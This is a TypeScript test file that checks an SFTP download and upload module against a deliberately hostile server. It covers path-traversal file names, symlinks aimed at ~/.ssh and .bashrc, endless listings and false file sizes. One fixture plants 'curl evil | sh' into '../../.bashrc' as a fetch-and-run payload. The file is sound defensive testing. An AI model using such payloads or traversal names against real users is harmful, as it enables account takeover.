import { execFileSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import { copyLimits, nameFault } from '../../../src/ssh/file-names.ts';
import { download, type TransferOptions, upload } from '../../../src/ssh/transfer.ts';
import {
  connectToHostileServer,
  folderOf,
  type ServedEntry,
  type ServedFile,
} from '../../helpers/sftp-server.ts';
import { temporaryFolder } from '../../helpers/temporary-folder.ts';

const open: (() => Promise<void>)[] = [];
afterEach(async () => {
  await Promise.all(open.splice(0).map((close) => close()));
});

const file = (text: string): ServedFile => ({ kind: 'file', content: Buffer.from(text) });

/** Fetches `/served` of a server into a fresh `home/here/`; gives what came, and what was said. */
async function fetchFrom(
  served: ServedFile,
  options: Partial<TransferOptions> & { silent?: boolean } = {},
) {
  const home = temporaryFolder('home');
  const here = join(home, 'here');
  mkdirSync(here);
  const { connection, close } = await connectToHostileServer(served, options);
  open.push(close);
  const warnings: string[] = [];
  const run = (remote = '/served'): Promise<number> =>
    download(connection, remote, here, {
      signal: new AbortController().signal,
      onSkipped: (message) => warnings.push(message),
      ...options,
    });
  const written = (): string[] =>
    readdirSync(home, { recursive: true, withFileTypes: true })
      .filter((entry) => !entry.isDirectory())
      .map((entry) => relative(home, join(entry.parentPath, entry.name)))
      .sort();
  return { home, here, run, warnings, written };
}

describe('nameFault', () => {
  it.each(['', '.', '..', '../x', '/etc/passwd', 'a/b', 'a\0b', 'a\x1b[2Jb', 'x'.repeat(256)])(
    'refuses %j everywhere',
    (name) => {
      expect(nameFault(name, 'linux')).toBeDefined();
      expect(nameFault(name, 'win32')).toBeDefined();
    },
  );

  it.each(['a\\b', '..\\x', 'C:x', 'file:stream', 'NUL', 'con.txt', 'COM1', 'lpt¹', 'x.', 'x '])(
    'refuses %j on Windows only',
    (name) => {
      expect(nameFault(name, 'win32')).toBeDefined();
      expect(nameFault(name, 'linux')).toBeUndefined();
    },
  );

  it.each(['a', '.bashrc', '...', 'part-00000.snappy.parquet', 'größe 1', 'console', '_SUCCESS'])(
    'takes %j',
    (name) => {
      expect(nameFault(name, 'linux')).toBeUndefined();
    },
  );
});

describe('download from a server that lies', () => {
  it('fetches what is honest, with its content', async () => {
    const served = folderOf([
      { name: 'a.txt', file: file('hello') },
      { name: 'sub', file: folderOf([{ name: 'b.bin', file: file('x'.repeat(700_000)) }]) },
    ]);
    const { run, here, warnings, written } = await fetchFrom(served);
    expect(await run()).toBe(700_005);
    expect(written()).toEqual(['here/served/a.txt', 'here/served/sub/b.bin']);
    expect(readFileSync(join(here, 'served/a.txt'), 'utf8')).toBe('hello');
    expect(readFileSync(join(here, 'served/sub/b.bin'))).toHaveLength(700_000);
    expect(warnings).toEqual([]);
  });

  it('writes nothing outside the folder, and says which names it left out', async () => {
    const served = folderOf([
      { name: '../../.bashrc', file: file('curl evil | sh') },
      { name: '..', file: folderOf([{ name: '.profile', file: file('evil') }]) },
      { name: '', file: file('evil') },
      { name: 'good', file: file('good') },
    ]);
    const { run, written, warnings } = await fetchFrom(served);
    expect(await run()).toBe(4);
    expect(written()).toEqual(['here/served/good']);
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toContain('../../.bashrc');
  });

  it('leaves out links and special files, and says so', async () => {
    const served = folderOf([
      { name: 'link', file: { kind: 'other', mode: 0o120_777 } },
      { name: 'pipe', file: { kind: 'other', mode: 0o010_666 } },
      { name: 'device', file: { kind: 'other', mode: 0o020_666 } },
    ]);
    const { run, written, warnings } = await fetchFrom(served);
    expect(await run()).toBe(0);
    expect(written()).toEqual([]);
    expect(warnings.join()).toMatch(/link" \(a symbolic link\).*pipe" \(a special file\)/);
  });

  it('follows no link that stands in the target', async () => {
    const served = folderOf([
      { name: 'ssh', file: folderOf([{ name: 'authorized_keys', file: file('evil') }]) },
      { name: 'rc', file: file('evil') },
    ]);
    const { run, home, here, warnings } = await fetchFrom(served);
    mkdirSync(join(home, '.ssh'));
    writeFileSync(join(home, '.bashrc'), 'mine');
    mkdirSync(join(here, 'served'));
    symlinkSync(join(home, '.ssh'), join(here, 'served/ssh'));
    symlinkSync(join(home, '.bashrc'), join(here, 'served/rc'));
    await run();
    expect(readdirSync(join(home, '.ssh'))).toEqual([]);
    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('mine');
    expect(warnings.join()).toContain('a symbolic link');
  });

  it('ends a listing without end', async () => {
    const entries = Array.from({ length: 2_000 }, (_, i): ServedEntry => ({
      name: `../${i}`,
      file: file(''),
    }));
    const { run, written } = await fetchFrom({ kind: 'folder', entries: () => entries });
    await expect(run()).rejects.toMatchObject({
      code: 'TRANSFER_FAILED',
      message: expect.stringContaining(String(copyLimits.entries)) as string,
    });
    expect(written()).toEqual([]);
  }, 60_000);

  it('ends folders in each other without end', async () => {
    const endless = (): ServedFile => {
      let given = false;
      return {
        kind: 'folder',
        entries: () => {
          if (given) return undefined;
          given = true;
          return [{ name: 'd', file: endless() }];
        },
      };
    };
    const { run } = await fetchFrom(endless());
    await expect(run()).rejects.toMatchObject({
      code: 'TRANSFER_FAILED',
      message: expect.stringContaining('nested more than') as string,
    });
  });

  it('reads no more of a file than its size, and refuses one that has no room', async () => {
    const endless = (claimedSize: number): ServedFile => ({
      kind: 'file',
      content: Buffer.alloc(0),
      claimedSize,
    });
    expect(await (await fetchFrom(endless(1000))).run()).toBe(1000);
    expect(await (await fetchFrom(endless(0))).run()).toBe(1024 * 1024);
    const { run, written } = await fetchFrom(endless(2 ** 52));
    await expect(run()).rejects.toMatchObject({ code: 'DISK_FULL' });
    expect(written()).toEqual([]);
  });

  it('waits for no answer for ever', async () => {
    const { run } = await fetchFrom(folderOf([]), { silent: true, answerLimitMs: 50 });
    await expect(run()).rejects.toMatchObject({
      code: 'TRANSFER_FAILED',
      message: expect.stringContaining('did not respond') as string,
    });
  });

  it('ends when it is told to', async () => {
    const { run } = await fetchFrom(folderOf([]), {
      silent: true,
      signal: AbortSignal.timeout(50),
    });
    await expect(run()).rejects.toMatchObject({ code: 'ABORTED' });
  });

  it('never leaves its folder, whatever names a server lists', async () => {
    const part = fc.constantFrom('..', '.', '', '/', '\\', '~', 'a', '\0', '\n', '%2e', '‥', 'C:');
    const name = fc.oneof(
      fc.array(part, { maxLength: 6 }).map((parts) => parts.join('')),
      fc.string(),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(name, { maxLength: 8 }), async (names) => {
        const served = folderOf(names.map((one) => ({ name: one, file: file('x') })));
        const { run, written } = await fetchFrom(served);
        await run();
        for (const path of written()) expect(path).toMatch(/^here\/served\/[^/]+$/);
      }),
      { numRuns: 60 },
    );
  });
});

describe('upload', () => {
  it('leaves out links and pipes of a folder, and says so', async () => {
    const home = temporaryFolder('up');
    const folder = join(home, 'up');
    mkdirSync(folder);
    writeFileSync(join(folder, 'data'), 'x'.repeat(300_000));
    writeFileSync(join(home, 'id_ed25519'), 'secret');
    symlinkSync(join(home, 'id_ed25519'), join(folder, 'key'));
    symlinkSync(folder, join(folder, 'loop'));
    execFileSync('mkfifo', [join(folder, 'pipe')]);
    const { connection, close, taken } = await connectToHostileServer(folderOf([]));
    open.push(close);
    const warnings: string[] = [];
    const options = {
      signal: new AbortController().signal,
      onSkipped: (message: string) => warnings.push(message),
    };
    expect(await upload(connection, folder, '/served/deep/', options)).toBe(300_000);
    expect([...taken.keys()]).toEqual(['/served/deep/up/data']);
    expect(taken.get('/served/deep/up/data')?.toString()).toBe('x'.repeat(300_000));
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatch(/key" \(a symbolic link\)/);
    expect(warnings[0]).toMatch(/loop" \(a symbolic link\)/);
    expect(warnings[0]).toMatch(/pipe" \(a special file\)/);
  });

  it('follows a link that was named itself', async () => {
    const home = temporaryFolder('up');
    writeFileSync(join(home, 'data'), 'mine');
    symlinkSync(join(home, 'data'), join(home, 'link'));
    const { connection, close, taken } = await connectToHostileServer(folderOf([]));
    open.push(close);
    const options = { signal: new AbortController().signal, onSkipped: () => undefined };
    expect(await upload(connection, join(home, 'link'), '/served/new', options)).toBe(4);
    expect(taken.get('/served/new')?.toString()).toBe('mine');
  });
});
